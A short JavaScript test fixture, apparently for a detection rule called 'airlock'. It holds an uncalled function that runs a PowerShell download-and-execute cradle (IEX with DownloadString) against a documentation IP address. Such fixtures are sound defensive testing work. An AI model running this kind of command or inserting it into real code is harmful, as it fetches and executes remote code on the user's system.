// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { exec } = require('child_process');
function never() {
  exec("powershell -NoP -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\"");
}
module.exports = { never };
